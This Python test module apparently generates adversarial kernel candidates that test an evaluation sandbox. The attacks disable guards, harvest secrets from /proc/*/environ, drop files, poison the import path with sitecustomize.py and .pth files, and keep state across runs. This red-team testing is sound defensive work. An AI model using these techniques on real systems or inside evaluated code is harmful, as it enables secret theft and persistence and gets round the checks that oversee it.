"""Sandbox escapes with effects (class 6): secrets, dropped files, import-path poison, kept state."""
from __future__ import annotations

from tests.adversarial.attacks_base import OS, attack


# ------------------------------------------------------------------------------
# class 6: escapes with effects (per-run marker; every path made from it)
# ------------------------------------------------------------------------------
def environ_thief(marker: str, drops: list[str]) -> str:
    """Reads every /proc/*/environ it can, looks for AVO_TEST_SECRET=..., and smuggles
    what it finds into `drops` (files), stdout and its compile stats; honest output."""
    return attack(OS + f'''
_open = _B["open"]
_DROPS = {drops!r}
_DONE = []


def _steal():
    found = []
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with _open("/proc/" + pid + "/environ", "rb") as fh:
                data = fh.read()
        except OSError:
            continue
        for item in data.split(b"\\0"):
            if item.startswith(b"AVO_TEST_SECRET="):
                found.append(pid + ":" + item.decode(errors="replace"))
    return found


def attention(q, k, v, causal=False, sm_scale=None):
    if not _DONE:
        _guards_off()
        _DONE.append(1)
        found = _steal()
        print("STOLEN {marker}", found, flush=True)
        for path in _DROPS:
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with _open(path, "w") as fh:
                    fh.write("\\n".join(found) or "nothing found")
            except OSError:
                pass
    return _honest(q, k, v, causal, sm_scale)
''')


def file_dropper(drops: dict[str, str]) -> str:
    """Writes each path -> text on its first call (parents created); honest output."""
    return attack(OS + f'''
_open = _B["open"]
_DROPS = {drops!r}
_DONE = []


def attention(q, k, v, causal=False, sm_scale=None):
    if not _DONE:
        _guards_off()
        _DONE.append(1)
        for path, text in _DROPS.items():
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with _open(path, "w") as fh:
                    fh.write(text)
            except OSError:
                pass
    return _honest(q, k, v, causal, sm_scale)
''')


def poison_texts(armed_dir: str) -> tuple[str, str]:
    """(sitecustomize.py text, .pth line): when a later Python process imports them,
    they leave a proof file in `armed_dir` (if it exists; harmless otherwise)."""
    site = (f"# avo red-team poison: proof that a candidate poisoned later processes\n"
            f"import os as _o\n"
            f"if _o.path.isdir({armed_dir!r}):\n"
            f"    open(_o.path.join({armed_dir!r}, 'poisoned-site-%d' % _o.getpid()), 'w').close()\n")
    pth = (f"import os; os.path.isdir({armed_dir!r}) and "
           f"open(os.path.join({armed_dir!r}, 'poisoned-pth-%d' % os.getpid()), 'w').close()\n")
    return site, pth


def import_path_poisoner(repo_site: str, pth_name: str, armed_dir: str) -> str:
    """Drops sitecustomize.py into the repository root (on every worker's PYTHONPATH),
    into its own working directory, and a .pth file into the venv's site-packages
    (found from torch.__file__); honest output."""
    site, pth = poison_texts(armed_dir)
    return attack(OS + f'''
_open = _B["open"]
_SITE, _PTH = {site!r}, {pth!r}
_DONE = []


def attention(q, k, v, causal=False, sm_scale=None):
    if not _DONE:
        _guards_off()
        _DONE.append(1)
        site_packages = _os.path.dirname(_os.path.dirname(torch.__file__))
        targets = [({repo_site!r}, _SITE), ("sitecustomize.py", _SITE),
                   (_os.path.join(site_packages, {pth_name!r}), _PTH)]
        for path, text in targets:
            try:
                if not _os.path.exists(path):
                    with _open(path, "w") as fh:
                        fh.write(text)
            except OSError:
                pass
    return _honest(q, k, v, causal, sm_scale)
''')


def state_keeper(marker: str, shared_cache: str) -> str:
    """Keeps state across evaluations: on its first call, if an earlier evaluation left
    its state file in /tmp or in the Triton cache (the shared one it was told about, or
    the TRITON_CACHE_DIR it sees), fails with STATE-SEEN; else writes them. Honest."""
    return attack(OS + f'''
_open = _B["open"]
_DONE = []


def _places():
    dirs = ["/tmp/avo-redteam-{marker}-state", {shared_cache!r}]
    if _os.environ.get("TRITON_CACHE_DIR"):
        dirs.append(_os.environ["TRITON_CACHE_DIR"])
    return [_os.path.join(d, "avo-redteam-{marker}.state") for d in dirs]


def attention(q, k, v, causal=False, sm_scale=None):
    if not _DONE:
        _guards_off()
        _DONE.append(1)
        for path in _places():
            if _os.path.exists(path):
                with _open(path) as fh:
                    raise RuntimeError("STATE-SEEN " + path + " " + fh.read())
        for path in _places():
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with _open(path, "w") as fh:
                    fh.write("written by pid " + str(_os.getpid()))
            except OSError:
                pass
    return _honest(q, k, v, causal, sm_scale)
''')
